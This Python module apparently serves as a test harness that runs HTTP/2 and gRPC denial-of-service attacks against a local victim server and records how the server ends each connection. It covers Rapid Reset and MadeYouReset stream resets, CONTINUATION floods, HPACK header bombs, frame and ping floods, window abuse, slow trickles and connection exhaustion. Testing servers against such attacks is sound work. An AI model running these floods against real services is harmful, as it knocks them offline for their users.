"""The attacks: one function each, which attacks the server through `connect` and says how the server ended it.

`connect(**options)` makes an Attacker; it is closed for the function. The letters are those of README.md.
"""

import time

import frames
from attacker import STILL_OPEN

MIB = 1024 * 1024
ECHO = frames.request_block()
SLOW = frames.request_block(b"/attack.Victim/Slow")


def flooded(connection, pieces, seconds=5.0):
    """Floods, and tells the ending."""
    connection.flood(pieces, seconds)
    connection.settle()
    resets = ", RST_STREAM ".join(["", *sorted(frames.code_name(code) for code in connection.resets)])
    return connection.ending() + (resets if connection.ending() == STILL_OPEN else "")


def answered(connection, pieces, count, seconds=5.0):
    """Sends calls, and tells the ending and how many of them were answered."""
    connection.flood(pieces, seconds, done=lambda: connection.ended_streams + connection.refused() >= count)
    connection.settle()
    return f"{connection.ending()}, {connection.ended_streams} of {count} answered"


def odd(count):
    return range(1, 2 * count, 2)


def in_batches(pieces, size=50):
    """Joins pieces, so that the server finds many in one read."""
    batch = []
    for piece in pieces:
        batch.append(piece)
        if len(batch) == size:
            yield b"".join(batch)
            batch = []
    yield b"".join(batch)


# --- A: streams that cost more than they seem to ----------------------------------------------------------------------


def reset_of_whole_requests(connect):
    pieces = (frames.headers(i, SLOW) + frames.data(i, frames.message(b"x"), True) + frames.rst_stream(i)
              for i in odd(20_000))
    return flooded(connect(), in_batches(pieces))


def reset_of_headers(connect):
    return flooded(connect(), in_batches(frames.headers(i, ECHO, True) + frames.rst_stream(i) for i in odd(20_000)))


def reset_of_open_requests(connect):
    return flooded(connect(), in_batches(frames.headers(i, ECHO) + frames.rst_stream(i) for i in odd(20_000)))


def made_to_reset(last):
    """The variants of MadeYouReset: each request is followed by what makes the server reset it."""

    def attack(connect):
        pieces = (frames.headers(i, SLOW) + frames.data(i, frames.message(b"x"), True) + last(i) for i in odd(2_000))
        return flooded(connect(), in_batches(pieces))

    return attack


def malformed_requests(connect):
    block = frames.request_block(b"/attack.Victim/Echo", frames.field(b"Upper", b"case"))
    return flooded(connect(reads=False), in_batches(frames.headers(i, block, True) for i in odd(5_000)))


def answers_larger_than_the_client_takes(connect):
    count = 2_000
    connection = connect(settings=((frames.MAX_HEADER_LIST_SIZE, 16),))
    pieces = in_batches(frames.headers(i, ECHO) + frames.data(i, frames.message(b"x"), True) +
                        frames.window_update(0, 6) for i in odd(count))
    return answered(connection, pieces, count)


def pipelined_requests(connect):
    count = 20_000
    connection = connect()
    connection.send(frames.window_update(0, MIB))
    # The first request puts its fields into the table, the others are indices: nine bytes each.
    first = (b"\x83\x86" + b"\x44" + frames.string(b"/attack.Victim/Echo") + b"\x41" + frames.string(b"127.0.0.1") +
             frames.field(b"te", b"trailers", True) + b"\x5f" + frames.string(b"application/grpc"))
    pieces = in_batches((frames.headers(i, first if i == 1 else b"\x83\x86\xc1\xc0\xbf\xbe") +
                         frames.data(i, frames.message(b""), True) for i in odd(count)), 1_000)
    return answered(connection, pieces, count, 20)


def more_streams_than_allowed(connect):
    connection = connect(acknowledges=False)
    connection.flood(in_batches(frames.headers(i, ECHO) for i in odd(5 * 1024)), 5)
    connection.settle(15)
    return connection.ending()


# --- B: header blocks -------------------------------------------------------------------------------------------------


def endless_header_block(connect):
    fields = b"".join(frames.field(b"x", b"y" * 100) for _ in range(150))

    def pieces():
        yield frames.headers(1, ECHO, end_headers=False)
        for _ in range(1_000):
            yield frames.continuation(1, fields)

    return flooded(connect(), pieces())


def empty_continuations(connect):
    def pieces():
        yield frames.headers(1, ECHO, end_headers=False)
        for _ in range(100):
            yield frames.continuation(1, b"") * 200

    return flooded(connect(), pieces())


def unfinished_header_block(connect):
    connection = connect()
    connection.send(frames.headers(1, ECHO, end_headers=False))
    connection.settle(15)
    return connection.ending()


def header_bomb(entry, references):
    """One field goes into the table and is referred to by one byte at a time, on 20 streams, with closed windows."""

    def block(stream):
        return ECHO + (entry if stream == 1 else b"") + b"\xbe" * references

    def request(stream):
        encoded = block(stream)
        parts = [encoded[i:i + 16_000] for i in range(0, len(encoded), 16_000)]
        return frames.headers(stream, parts[0], True, len(parts) == 1) + b"".join(
            frames.continuation(stream, part, part is parts[-1]) for part in parts[1:])

    def attack(connect):
        return flooded(connect(settings=((frames.INITIAL_WINDOW_SIZE, 0),)), map(request, odd(20)), 3)

    return attack


def block_of(encoded):
    def attack(connect):
        return flooded(connect(), [frames.headers(1, encoded, True)], 3)

    return attack


def header_list_above_the_soft_limit(connect):
    connection = connect()
    block = frames.request_block(b"/attack.Victim/Echo", frames.field(b"x", b"y" * 9_000))
    pieces = [frames.headers(1, block, True), frames.headers(3, ECHO) + frames.data(3, frames.message(b"x"), True)]
    return answered(connection, pieces, 2, 3)


def largest_encoder_table(connect):
    connection = connect(settings=((frames.HEADER_TABLE_SIZE, 2**32 - 1),))
    count = 2_000
    pieces = in_batches(frames.headers(i, ECHO) + frames.data(i, frames.message(b"x"), True) +
                        frames.window_update(0, 6) for i in odd(count))
    return answered(connection, pieces, count)


# --- C: frames that carry nothing -------------------------------------------------------------------------------------


def frames_while_reading(one, count):
    def attack(connect):
        return flooded(connect(), (one * 1_000 for _ in range(count // 1_000)))

    return attack


def frames_while_not_reading(one, count):
    def attack(connect):
        connection = connect(reads=False)
        connection.flood((one * 1_000 for _ in range(count // 1_000)), 15, done=lambda: False)
        connection.settle()
        return connection.ending()

    return attack


def pings_at_leisure(connect):
    connection = connect()
    for _ in range(6):
        connection.send(frames.ping())
        connection.settle(1)
        if connection.over or connection.goaway:
            break
    return connection.ending()


def large_settings(connect):
    return flooded(connect(), [frames.settings(*((0x99, 1),) * 2_730)] * 50)


def toggled_windows(connect):
    connection = connect()
    toggle = frames.settings((frames.INITIAL_WINDOW_SIZE, 0)) + frames.settings((frames.INITIAL_WINDOW_SIZE, 2**31 - 1))

    def pieces():
        yield from in_batches(frames.headers(i, ECHO) for i in odd(1_000))
        for _ in range(100):
            yield toggle * 100

    return flooded(connection, pieces())


# --- D: data and windows ----------------------------------------------------------------------------------------------


def whole_calls(streams, size):
    """Calls that upload `size` bytes each, to have them sent back; upload is one stream after the other."""
    body = frames.message(b"x" * size)
    for stream in streams:
        yield frames.headers(stream, ECHO)
        for begin in range(0, len(body), 16_000):
            part = body[begin:begin + 16_000]
            yield frames.data(stream, part, begin + len(part) == len(body))


def one_byte_windows(connect):
    connection = connect(settings=((frames.INITIAL_WINDOW_SIZE, 1),))
    connection.flood(whole_calls(odd(10), 60_000), 5)
    drip = b"".join(frames.window_update(i, 1) for i in odd(10))
    connection.flood((drip for _ in range(500)), 5)
    connection.settle()
    return f"{connection.ending()}, {connection.seen[frames.DATA]} DATA frames for 5010 bytes"


def answers_never_taken(connect):
    """Windows that pin memory: ten calls whose answers may never leave, with a WINDOW_UPDATE by one now and then."""
    connection = connect(settings=((frames.INITIAL_WINDOW_SIZE, 0),))
    connection.flood(whole_calls(odd(10), 60_000), 5)
    deadline = time.monotonic() + 75
    while time.monotonic() < deadline and not connection.over and connection.resets.total() < 10:
        connection.send(b"".join(frames.window_update(i, 1) for i in odd(10)))
        connection.flood((), 2, done=lambda: False)
    return f"{connection.ending()}, {connection.resets.total()} of 10 calls reset"


def answers_never_read(connect):
    """Windows wide open and a socket that is never read: all that is answered waits in the server."""
    connection = connect(reads=False, settings=((frames.INITIAL_WINDOW_SIZE, frames.LARGEST_WINDOW),))
    connection.send(frames.window_update(0, frames.LARGEST_WINDOW - 65_535))
    connection.flood(whole_calls(odd(500), 60_000), 15, done=lambda: False)
    connection.settle()
    return connection.ending()


def empty_data(connect):
    def pieces():
        yield frames.headers(1, ECHO)
        for _ in range(100):
            yield frames.data(1, b"") * 200

    return flooded(connect(), pieces())


def data_of_one_byte(connect):
    """Ten unfinished messages in frames of one byte each, as far as the stream's window goes."""

    def pieces():
        for stream in odd(10):
            yield frames.headers(stream, ECHO) + frames.data(stream, b"\x00" + (60_000).to_bytes(4, "big"))
            for _ in range(50):
                yield frames.data(stream, b"x") * 1_000

    return flooded(connect(), pieces())


def message_of_64_megabytes(connect):
    """Is sent in full, whatever the server says to it."""
    return flooded(connect(), whole_calls([1], 64 * MIB), 5)


def window_overflow(connect):
    return flooded(connect(), [frames.window_update(0, frames.LARGEST_WINDOW)])


def trickle(script, seconds):
    """Sends one byte a second."""

    def attack(connect):
        connection = connect(preface=not script.startswith(frames.CLIENT_PREFACE))
        deadline = time.monotonic() + seconds
        for byte in script:
            connection.send(bytes([byte]))
            connection.settle(1)
            if connection.over or connection.goaway or time.monotonic() > deadline:
                break
        return connection.ending()

    return attack


def message_byte_by_byte(connect):
    """A call whose message hardly comes. No limit ends it: only the client's deadline would."""
    connection = connect()
    connection.send(frames.headers(1, ECHO))
    for byte in frames.message(b"x" * 60_000)[:10]:
        connection.send(frames.data(1, bytes([byte])))
        connection.settle(1)
    return connection.ending()


# --- E, G: messages, connections, the end -----------------------------------------------------------------------------


def message_of_four_gigabytes(connect):
    connection = connect()
    pieces = [frames.headers(1, ECHO) + frames.data(1, b"\x00\xff\xff\xff\xffx"),
              frames.headers(3, ECHO) + frames.data(3, frames.message(b"x"), True)]
    return answered(connection, pieces, 2, 3)


def silent_connections(connect):
    """Connections that never say anything."""
    connections = [connect(preface=False) for _ in range(1_000)]
    deadline = time.monotonic() + 15
    while time.monotonic() < deadline and not all(connection.over for connection in connections):
        for connection in connections:
            connection.receive()
        connections[0].settle(0.2)
    return f"{sum(connection.over for connection in connections)} of 1000 closed"


def idle_connections(connect):
    connections = [connect() for _ in range(1_000)]
    for connection in connections:
        connection.receive()
    return f"{sum(not connection.over for connection in connections)} of 1000 open"


def more_connections_than_descriptors(connect):
    connections = []
    for _ in range(200):
        connections.append(connect(preface=False))
        connections[-1].settle(0.002)
    for connection in connections:
        connection.close()
    return "recovered" if is_served_soon(connect) else "did not recover within 5 s"


def is_served_soon(connect):
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        connection = connect()
        connection.flood([frames.headers(1, ECHO) + frames.data(1, frames.message(b"x"), True)], 1,
                         done=lambda: connection.ended_streams == 1)
        if connection.ended_streams:
            return True
    return False


def frames_after_the_end(connect):
    junk = b"".join(frames.frame(kind, 0xff, stream, b"\x01junk") for kind in range(11) for stream in range(4))
    connection = connect()
    connection.send(frames.window_update(0, 0) + junk * 100)
    connection.settle()
    return connection.ending()
